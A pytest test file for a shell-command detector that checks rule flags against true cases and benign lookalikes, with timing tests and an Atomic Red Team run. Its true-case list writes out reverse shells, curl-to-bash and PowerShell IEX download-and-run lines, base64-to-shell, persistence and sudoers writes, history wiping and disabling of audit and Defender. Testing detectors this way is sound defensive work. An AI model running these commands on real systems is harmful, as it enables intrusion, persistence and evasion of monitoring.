"""Rules: each flag with true cases and benign lookalikes, and a run over the Atomic Red Team tests."""

from __future__ import annotations

import re
import time
from collections import Counter
from pathlib import Path

import pytest
import yaml

from shellwatch.cmdline import analyze
from shellwatch.cmdline._words import MAX_DEPTH, MAX_SEGMENTS
from shellwatch.cmdline.flags import RULES, _search, write_targets
from shellwatch.cmdline.model import VERDICTS

TRUE_CASES = [
    ("network-redirection", "malicious", "bash", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
    ("network-redirection", "malicious", "bash", "exec 5<>/dev/tcp/10.0.0.1/4444"),
    ("network-redirection", "malicious", "bash", "cat /etc/passwd > /dev/udp/10.0.0.1/53"),
    ("network-redirection", "malicious", "bash", "bash -c 'sh -i >& /dev/tcp/1.1.1.1/1 0>&1'"),
    ("download-to-interpreter", "malicious", "bash", "curl -fsSL http://x/i.sh | sudo bash"),
    ("download-to-interpreter", "malicious", "bash", "wget -qO- http://x | tee f | python3"),
    ("download-to-interpreter", "malicious", "bash", "fetch -o - http://x/i.sh | sh"),
    ("download-to-interpreter", "malicious", "bash", "/usr/bin/curl -s http://x | /bin/bash -s"),
    ("download-to-interpreter", "malicious", "bash", 'bash -c "$(curl -fsSL http://x/i.sh)"'),
    ("download-to-interpreter", "malicious", "bash", "source <(curl -s http://x/env)"),
    (
        "download-to-interpreter",
        "malicious",
        "powershell",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
    ),
    (
        "download-to-interpreter",
        "malicious",
        "powershell",
        "(New-Object Net.WebClient).DownloadString('http://x') | iex",
    ),
    ("download-to-interpreter", "malicious", "powershell", "iwr http://x/a.ps1 -UseBasicParsing | iex"),
    ("download-to-interpreter", "malicious", "powershell", "Invoke-WebRequest http://x | Invoke-Expression"),
    (
        "download-to-interpreter",
        "malicious",
        "powershell",
        "$c = (iwr http://x/a.ps1).Content; Invoke-Expression $c",
    ),
    ("pipe-to-shell", "suspicious", "bash", "cat script.txt | sh"),
    ("pipe-to-shell", "suspicious", "bash", "echo id | /bin/bash -s"),
    ("pipe-to-shell", "suspicious", "powershell", "Get-Content a.txt | iex"),
    ("history-tampering", "suspicious", "bash", "history -c"),
    ("history-tampering", "suspicious", "bash", "unset HISTFILE"),
    ("history-tampering", "suspicious", "bash", "export HISTFILE=/dev/null"),
    ("history-tampering", "suspicious", "bash", "export HISTSIZE=0"),
    ("history-tampering", "suspicious", "bash", "HISTFILE=/dev/null bash"),
    ("history-tampering", "suspicious", "bash", "set +o history"),
    ("history-tampering", "suspicious", "bash", "rm -f ~/.bash_history"),
    ("history-tampering", "suspicious", "bash", "ln -sf /dev/null ~/.bash_history"),
    ("history-tampering", "suspicious", "bash", "cat /dev/null > ~/.bash_history"),
    ("history-tampering", "suspicious", "powershell", "Clear-History"),
    ("history-tampering", "suspicious", "powershell", "Remove-Item (Get-PSReadlineOption).HistorySavePath"),
    ("history-tampering", "suspicious", "powershell", "Set-PSReadlineOption -HistorySaveStyle SaveNothing"),
    ("persistence-write", "suspicious", "bash", "echo '* * * * * /tmp/x' >> /etc/crontab"),
    ("persistence-write", "suspicious", "bash", "(crontab -l; echo '@reboot /tmp/x') | crontab -"),
    ("persistence-write", "suspicious", "bash", "echo x | tee /var/spool/cron/crontabs/root"),
    ("persistence-write", "suspicious", "bash", "cp evil.service /etc/systemd/system/evil.service"),
    ("persistence-write", "suspicious", "bash", "systemctl enable evil.service"),
    ("persistence-write", "suspicious", "bash", "echo 'nc -e /bin/sh x 1' >> ~/.bashrc"),
    ("persistence-write", "suspicious", "bash", "echo x >> /home/u/.bash_profile"),
    ("persistence-write", "suspicious", "bash", "echo x | tee -a ~/.profile"),
    ("persistence-write", "suspicious", "bash", "echo x >> ~/.zshrc"),
    ("persistence-write", "suspicious", "bash", "cp x.sh /etc/profile.d/x.sh"),
    ("persistence-write", "suspicious", "bash", "mv key.pub ~/.ssh/authorized_keys"),
    ("persistence-write", "suspicious", "bash", "echo /tmp/x >> /etc/rc.local"),
    ("persistence-write", "suspicious", "bash", "cat <<EOF > /etc/cron.d/job\n* * * * * root id\nEOF"),
    ("persistence-write", "suspicious", "cmd", "schtasks /create /tn x /tr c:\\x.exe /sc onlogon"),
    (
        "persistence-write",
        "suspicious",
        "cmd",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d c:\\x.exe',
    ),
    ("persistence-write", "suspicious", "cmd", "sc create evil binPath= c:\\x.exe"),
    (
        "persistence-write",
        "suspicious",
        "powershell",
        "$t = New-ScheduledTaskAction -Execute x.exe; Register-ScheduledTask -TaskName x -Action $t",
    ),
    ("privilege-change", "malicious", "bash", "chmod u+s /bin/bash"),
    ("privilege-change", "malicious", "bash", "sudo chmod 4755 ./x"),
    ("privilege-change", "malicious", "bash", "setcap cap_setuid+ep /usr/bin/python3"),
    ("privilege-change", "malicious", "bash", "usermod -aG sudo bob"),
    ("privilege-change", "malicious", "bash", "usermod -a -G wheel bob"),
    ("privilege-change", "malicious", "bash", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
    ("privilege-change", "malicious", "bash", "echo 'bob ALL=(ALL) ALL' | sudo tee /etc/sudoers.d/bob"),
    ("privilege-change", "malicious", "cmd", "net localgroup administrators bob /add"),
    ("privilege-change", "suspicious", "bash", "chown root:root /opt/x"),
    ("privilege-change", "suspicious", "bash", "visudo"),
    ("privilege-change", "suspicious", "bash", "sudo su -"),
    ("privilege-change", "suspicious", "bash", "su - root"),
    ("reverse-shell-tool", "malicious", "bash", "nc -e /bin/sh 1.2.3.4 4444"),
    ("reverse-shell-tool", "malicious", "bash", "nc 1.2.3.4 4444 -e /bin/bash"),
    ("reverse-shell-tool", "malicious", "bash", "ncat --exec /bin/bash 1.2.3.4 80"),
    ("reverse-shell-tool", "malicious", "bash", "socat tcp:1.2.3.4:80 exec:/bin/sh,pty,stderr"),
    (
        "reverse-shell-tool",
        "malicious",
        "bash",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x 1 > /tmp/f",
    ),
    (
        "reverse-shell-tool",
        "malicious",
        "bash",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("x",1));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    ),
    (
        "reverse-shell-tool",
        "malicious",
        "powershell",
        "$c = New-Object System.Net.Sockets.TCPClient('x',1); $s = $c.GetStream(); "
        "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $o = (iex $d 2>&1 | Out-String) }",
    ),
    ("decode-to-shell", "malicious", "bash", "echo aWQ= | base64 -d | bash"),
    ("decode-to-shell", "malicious", "bash", "base64 --decode payload.b64 | sh"),
    ("decode-to-shell", "malicious", "bash", "echo 6964 | xxd -r -p | sh"),
    ("decode-to-shell", "malicious", "bash", 'bash -c "$(echo aWQ= | base64 -d)"'),
    ("decode-to-shell", "malicious", "bash", "eval $(base64 --decode <<< aWQ=)"),
    (
        "decode-to-shell",
        "malicious",
        "powershell",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
    ),
    ("temp-path-exec", "suspicious", "bash", "/tmp/payload"),
    ("temp-path-exec", "suspicious", "bash", "bash /dev/shm/x.sh"),
    ("temp-path-exec", "suspicious", "bash", "nohup python3 /var/tmp/x.py &"),
    ("temp-path-exec", "suspicious", "bash", "chmod +x /tmp/x"),
    ("temp-path-exec", "suspicious", "cmd", "%TEMP%\\x.exe"),
    ("temp-path-exec", "suspicious", "cmd", "rundll32 %TEMP%\\x.dll,Start"),
    ("temp-path-exec", "suspicious", "powershell", "Start-Process $env:TEMP\\x.exe"),
    ("defense-evasion", "malicious", "bash", "setenforce 0"),
    ("defense-evasion", "malicious", "bash", "systemctl stop auditd"),
    ("defense-evasion", "malicious", "bash", "service auditd stop"),
    ("defense-evasion", "malicious", "bash", "auditctl -D"),
    ("defense-evasion", "malicious", "bash", "auditctl -e 0"),
    ("defense-evasion", "malicious", "powershell", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("defense-evasion", "malicious", "powershell", "Add-MpPreference -ExclusionPath C:\\"),
    ("defense-evasion", "malicious", "cmd", "wevtutil cl Security"),
]

LOOKALIKES = [
    ("network-redirection", "bash", "grep '/dev/tcp' notes.txt"),
    ("network-redirection", "bash", 'grep "/dev/tcp/" /var/log/audit.log > hits.txt'),
    ("network-redirection", "bash", 'echo "/dev/tcp/1.2.3.4/80"'),
    ("download-to-interpreter", "bash", "curl -o file http://x/install.sh"),
    ("download-to-interpreter", "bash", "curl -o install.sh http://x/i.sh && less install.sh"),
    ("download-to-interpreter", "bash", "curl -s http://x | grep bash"),
    ("download-to-interpreter", "bash", "wget -qO- http://x | sha256sum"),
    ("download-to-interpreter", "bash", "echo 'curl http://x | sh' >> README.md"),
    ("download-to-interpreter", "powershell", "iwr http://x -OutFile f.ps1"),
    ("pipe-to-shell", "bash", "cat script.sh | grep sh"),
    ("pipe-to-shell", "bash", "sh ./configure"),
    ("pipe-to-shell", "bash", "echo 'x | sh'"),
    ("history-tampering", "bash", "history | tail -5"),
    ("history-tampering", "bash", "cat ~/.bash_history"),
    ("history-tampering", "bash", "echo $HISTFILE"),
    ("history-tampering", "bash", 'echo "unset HISTFILE"'),
    ("history-tampering", "bash", "export HISTSIZE=10000"),
    ("history-tampering", "powershell", "Get-History"),
    ("persistence-write", "bash", "cat ~/.bashrc"),
    ("persistence-write", "bash", "vi -R ~/.bashrc"),
    ("persistence-write", "bash", "grep x /etc/crontab"),
    ("persistence-write", "bash", "crontab -l"),
    ("persistence-write", "bash", "systemctl status evil.service"),
    ("persistence-write", "bash", "cp ~/.bashrc /backup/bashrc"),
    ("persistence-write", "bash", "cat ~/.ssh/authorized_keys"),
    ("persistence-write", "bash", "source ~/.bashrc"),
    ("persistence-write", "cmd", "schtasks /query /fo list"),
    ("persistence-write", "cmd", "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ("persistence-write", "cmd", "sc query state= all"),
    ("privilege-change", "bash", "chmod 755 script.sh"),
    ("privilege-change", "bash", "chmod u+x script.sh"),
    ("privilege-change", "bash", "cat /etc/sudoers"),
    ("privilege-change", "bash", "chown www-data /var/www/x"),
    ("privilege-change", "bash", "visudo -c"),
    ("privilege-change", "bash", "getcap -r / 2>/dev/null"),
    ("privilege-change", "cmd", "net localgroup administrators"),
    ("reverse-shell-tool", "bash", "nc -zv host 22"),
    ("reverse-shell-tool", "bash", "nc -l 8080 > file"),
    ("reverse-shell-tool", "bash", "socat tcp-listen:80 tcp:10.0.0.1:80"),
    ("reverse-shell-tool", "bash", "python3 -c 'import socket; print(socket.gethostname())'"),
    ("decode-to-shell", "bash", "echo aWQ= | base64 -d"),
    ("decode-to-shell", "bash", "echo aWQ= | base64 -d > out.bin"),
    ("decode-to-shell", "bash", "base64 file | sh -c 'cat > out'"),
    ("decode-to-shell", "bash", "base64 file | tr -d '\\n' | sh -c 'cat > out'"),
    ("temp-path-exec", "bash", "ls /tmp"),
    ("temp-path-exec", "bash", "cat /tmp/log.txt"),
    ("temp-path-exec", "bash", "python3 report.py /tmp/out.csv"),
    ("temp-path-exec", "bash", "chmod 644 /tmp/x"),
    ("temp-path-exec", "cmd", "dir %TEMP%"),
    ("defense-evasion", "bash", "setenforce 1"),
    ("defense-evasion", "bash", "systemctl status auditd"),
    ("defense-evasion", "bash", "systemctl stop nginx"),
    ("defense-evasion", "bash", "auditctl -l"),
    ("defense-evasion", "powershell", "Get-MpPreference"),
    ("defense-evasion", "powershell", "Set-MpPreference -DisableRealtimeMonitoring $false"),
]


def test_every_kind_has_true_cases_and_lookalikes() -> None:
    kinds = {rule.kind for rule in RULES}
    assert kinds == {kind for kind, *_ in TRUE_CASES}
    assert kinds == {kind for kind, *_ in LOOKALIKES}


def test_rules_are_compiled_data() -> None:
    for rule in RULES:
        assert isinstance(rule.pattern, re.Pattern)
        assert rule.severity in VERDICTS[1:]
        assert rule.reason


@pytest.mark.parametrize(("kind", "severity", "shell", "line"), TRUE_CASES)
def test_flag_true_case(kind: str, severity: str, shell: str, line: str) -> None:
    analysis = analyze(line, shell)
    found = [f for f in analysis.findings if f.kind == kind]
    assert found, f"{kind} not found in {line!r}: {analysis.findings}"
    assert severity in {f.severity for f in found}
    assert analysis.verdict in {severity, "malicious"}
    for finding in found:
        assert analysis.verdicts[finding.segment] in {finding.severity, "malicious"}


@pytest.mark.parametrize(("kind", "shell", "line"), LOOKALIKES)
def test_flag_benign_lookalike(kind: str, shell: str, line: str) -> None:
    analysis = analyze(line, shell)
    assert kind not in {f.kind for f in analysis.findings}, analysis.findings


@pytest.mark.parametrize("line", ["sudo -l", "sudo -n true", "su - bob", "sudo apt-get update"])
def test_privilege_check_is_at_most_suspicious(line: str) -> None:
    assert analyze(line, "bash").verdict == "suspicious"


@pytest.mark.parametrize(
    "line",
    [
        "grep '/dev/tcp' notes.txt",
        "curl -o file http://x",
        "cat ~/.bashrc",
        "ls -la /tmp | grep x",
        "git log --oneline | head -5 && make test 2>&1 | tee build.log",
    ],
)
def test_everyday_lines_are_benign(line: str) -> None:
    assert analyze(line, "bash").verdict == "benign"


def test_finding_names_the_nested_segment() -> None:
    analysis = analyze("echo $(echo aWQ= | base64 -d | sh)", "bash")
    (finding,) = [f for f in analysis.findings if f.kind == "decode-to-shell"]
    assert analysis.segments[finding.segment].command == "base64"
    assert analysis.segments[finding.segment].depth == 1
    assert analysis.verdicts[0] == "benign"


def test_finding_names_the_body_not_the_wrapper() -> None:
    analysis = analyze('cmd.exe /c "echo x & powershell -nop -c IEX (iwr http://x)"', "cmd")
    findings = [f for f in analysis.findings if f.kind == "download-to-interpreter"]
    assert [analysis.segments[f.segment].command for f in findings] == ["iex"]
    assert analysis.verdicts[0] == "benign"


def test_strongest_finding_wins() -> None:
    analysis = analyze("sudo chmod 4755 /tmp/x", "bash")
    assert {f.kind for f in analysis.findings} == {"privilege-change", "temp-path-exec"}
    assert analysis.verdicts == ("malicious",)


def test_write_targets() -> None:
    (segment,) = analyze("sed -i s/a/b/ ~/.bashrc", "bash").segments
    assert write_targets(segment) == ["~/.bashrc"]
    (segment,) = analyze("Set-Content -Path C:\\x.txt -Value y", "powershell").segments
    assert write_targets(segment) == ["C:\\x.txt"]
    (segment,) = analyze("dd if=/dev/zero of=/etc/cron.d/x 2>/dev/null", "bash").segments
    assert write_targets(segment) == ["/dev/null", "/etc/cron.d/x"]


# Pieces of the rules' own syntax, repeated to make long texts that would take a backtracking pattern
# quadratic (or worse) time.
ADVERSARIAL_PIECES = (
    "socket ",
    "$(",
    "| ",
    "iex ",
    "/",
    "-d ",
    "base64 ",
    "a",
    " ",
    "tcpclient ",
    "downloadstring ",
    "frombase64string ",
    "`",
    "-x ",
    "-G ",
    "fsockopen ",
    "connect ",
)
ADVERSARIAL_HEADS = ("", "sh -c ", "curl ", "base64 ", "nc ", "usermod ", "auditctl ", "chmod ", "iex ")


@pytest.mark.parametrize("head", ADVERSARIAL_HEADS)
def test_rules_take_linear_time(head: str) -> None:
    for piece in ADVERSARIAL_PIECES:
        text = head + piece * (12_000 // len(piece))
        for rule in RULES:
            started = time.perf_counter()
            _search(rule, text)
            elapsed = time.perf_counter() - started
            assert elapsed < 0.5, (
                f"{rule.kind} {rule.pattern.pattern[:60]!r} took {elapsed:.2f}s on {piece!r}"
            )


@pytest.mark.parametrize(
    ("shell", "line"),
    [
        ("bash", "a|" * 30_000),
        ("bash", "`id`" * 15_000),
        ("bash", "echo " + "$(" * 5_000 + "id" + ")" * 5_000),
        ("cmd", "^&" * 30_000),
        ("cmd", "(" * 20_000 + "echo" + ")" * 20_000),
        ("powershell", "{" * 20_000 + "}" * 20_000),
        ("powershell", '"' + "$(a)" * 15_000 + '"'),
    ],
)
def test_huge_lines_are_bounded(shell: str, line: str) -> None:
    analysis = analyze(line, shell)
    assert len(analysis.segments) <= MAX_SEGMENTS
    assert max((s.depth for s in analysis.segments), default=0) <= MAX_DEPTH + 1


# --- Atomic Red Team ------------------------------------------------------------------------------------

EXECUTORS = {"sh": "bash", "bash": "bash", "command_prompt": "cmd", "powershell": "powershell"}


def atomic_commands(corpus: Path, defaults: bool) -> list[tuple[str, str, str | None]]:
    """(test name, command, shell) for every Atomic test; ``defaults`` fills in ``#{argument}``s."""
    commands: list[tuple[str, str, str | None]] = []
    for path in sorted((corpus / "atomic").glob("*.yaml")):
        document = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for test in document.get("atomic_tests") or []:
            executor = test.get("executor") or {}
            command = executor.get("command")
            if not isinstance(command, str) or not command.strip():
                continue
            if defaults:
                for name, spec in (test.get("input_arguments") or {}).items():
                    value = (spec or {}).get("default")
                    command = command.replace("#{" + name + "}", "" if value is None else str(value))
            commands.append((str(test.get("name")), command, EXECUTORS.get(str(executor.get("name")))))
    return commands


@pytest.mark.corpus
@pytest.mark.parametrize("defaults", [False, True], ids=["as-written", "default-arguments"])
def test_atomic_red_team_commands(corpus: Path, defaults: bool) -> None:
    if not (corpus / "atomic").is_dir():
        pytest.skip("no Atomic Red Team tests in the corpus")
    commands = atomic_commands(corpus, defaults)
    assert commands
    verdicts: Counter[str] = Counter()
    kinds: Counter[str] = Counter()
    by_name: dict[str, str] = {}
    for name, command, shell in commands:
        analysis = analyze(command, shell)
        guessed = analyze(command)
        assert len(analysis.verdicts) == len(analysis.segments), name
        assert guessed.verdict in VERDICTS, name
        verdicts[analysis.verdict] += 1
        kinds.update({f.kind for f in analysis.findings})
        by_name[name] = analysis.verdict
    print(f"\natomic commands ({'default arguments' if defaults else 'as written'}): {len(commands)}")
    for verdict in VERDICTS:
        print(f"  {verdict}: {verdicts[verdict]}")
    for kind, count in sorted(kinds.items()):
        print(f"  commands with {kind}: {count}")
    assert by_name["Command-Line Interface"] == "malicious"
    assert by_name["PowerShell Fileless Script Execution"] == "malicious"
    if defaults:
        assert by_name["Detecting pipe-to-shell"] == "malicious"
